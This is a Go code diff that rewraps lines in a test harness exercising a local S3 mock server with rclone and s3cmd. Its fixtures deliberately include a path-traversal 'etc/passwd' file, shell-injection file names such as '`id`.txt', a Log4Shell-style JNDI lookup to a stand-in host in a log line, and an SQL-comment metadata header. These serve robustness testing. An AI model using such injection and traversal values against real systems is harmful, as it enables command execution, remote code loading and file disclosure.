@@ -24,7 +24,8 @@ func objects() app {
 			if err := os.MkdirAll(data, 0o700); err != nil {
 				return fmt.Errorf("making a folder: %w", err)
 			}
-			return p.serve(p.port, "", nil, filepath.Join(modules, ".bin/s3rver"), "-d", data, "-a", "127.0.0.1", "-p", fmt.Sprint(p.port), "--no-vhost-buckets")
+			return p.serve(p.port, "", nil, filepath.Join(modules, ".bin/s3rver"), "-d", data, "-a", "127.0.0.1", "-p",
+				fmt.Sprint(p.port), "--no-vhost-buckets")
 		},
 		use: useObjects,
 	}
@@ -33,19 +34,22 @@ func objects() app {
 func useObjects(f *flow) {
 	env := []string{
 		"RCLONE_CONFIG=" + filepath.Join(f.work, "none"), "RCLONE_CONFIG_X_TYPE=s3", "RCLONE_CONFIG_X_PROVIDER=Other",
-		"RCLONE_CONFIG_X_ACCESS_KEY_ID=S3RVER", "RCLONE_CONFIG_X_SECRET_ACCESS_KEY=S3RVER", "RCLONE_CONFIG_X_ENDPOINT=" + f.base,
+		"RCLONE_CONFIG_X_ACCESS_KEY_ID=S3RVER", "RCLONE_CONFIG_X_SECRET_ACCESS_KEY=S3RVER",
+		"RCLONE_CONFIG_X_ENDPOINT=" + f.base,
 		"RCLONE_CONFIG_X_REGION=us-east-1", "RCLONE_CONFIG_X_FORCE_PATH_STYLE=true",
 	}
 	bucket := "bucket"
 	rclone := func(name string, args ...string) {
 		f.step("rclone "+name, func() (string, error) {
-			out, err := f.command(f.work, env, "rclone", append(args, "--retries", "1", "--low-level-retries", "1", "--transfers", "1")...)
+			out, err := f.command(f.work, env, "rclone", append(args, "--retries", "1", "--low-level-retries", "1",
+				"--transfers", "1")...)
 			return fmt.Sprint(len(strings.Split(out, "\n"))), err
 		})
 	}
 	s3cmd := func(name string, args ...string) {
 		f.step("s3cmd "+name, func() (string, error) {
-			args = append([]string{"--config=/dev/null", "--access_key=S3RVER", "--secret_key=S3RVER", "--no-ssl", "--host=" + f.host, "--host-bucket=" + f.host,
+			args = append([]string{"--config=/dev/null", "--access_key=S3RVER", "--secret_key=S3RVER", "--no-ssl",
+				"--host=" + f.host, "--host-bucket=" + f.host,
 				"--region=us-east-1"}, args...)
 			out, err := f.command(f.work, []string{"LC_ALL=C.UTF-8"}, "s3cmd", args...)
 			return fmt.Sprint(len(strings.Split(out, "\n"))), err
@@ -53,8 +57,10 @@ func useObjects(f *flow) {
 	}
 	f.step("files", func() (string, error) {
 		for _, x := range append(oddFiles, []struct{ name, text string }{
-			{"deep/../etc/passwd", "root:x:0:0:root:/root:/bin/bash\n"}, {".env", "KEY=1\n"}, {"backup/db.sql.gz", "\x1f\x8b"}, {".git/config", "[core]\n"},
-			{"a|b;c.txt", "x"}, {"<b>.html", "<b>"}, {"`id`.txt", "y"}, {"logs/access.log", "GET /?x=${jndi:ldap://e.example/a} 404\n"},
+			{"deep/../etc/passwd", "root:x:0:0:root:/root:/bin/bash\n"}, {".env", "KEY=1\n"}, {"backup/db.sql.gz",
+				"\x1f\x8b"}, {".git/config", "[core]\n"},
+			{"a|b;c.txt", "x"}, {"<b>.html", "<b>"}, {"`id`.txt", "y"}, {"logs/access.log",
+				"GET /?x=${jndi:ldap://e.example/a} 404\n"},
 		}...) {
 			if _, err := f.file(filepath.Join("work/files", x.name), x.text); err != nil {
 				return "", err
@@ -70,7 +76,8 @@ func useObjects(f *flow) {
 	rclone("check", "check", files, "x:"+bucket+"/data")
 	rclone("cat", "cat", "x:"+bucket+"/data/query.sql")
 	rclone("move", "moveto", "x:"+bucket+"/data/index.php", "x:"+bucket+"/old/index's; (1).php")
-	rclone("metadata", "copyto", filepath.Join(files, "query.sql"), "x:"+bucket+"/meta.sql", "--header-upload", "x-amz-meta-note: it's 'new'; select 1 -- <b>")
+	rclone("metadata", "copyto", filepath.Join(files, "query.sql"), "x:"+bucket+"/meta.sql", "--header-upload",
+		"x-amz-meta-note: it's 'new'; select 1 -- <b>")
 	rclone("copy back", "copy", "x:"+bucket, filepath.Join(f.work, "back"))
 	s3cmd("ls", "ls", "s3://"+bucket+"/data/")
 	s3cmd("put", "put", filepath.Join(files, "it's & (1);x.txt"), "s3://"+bucket+"/up/it's & (1);x.txt")
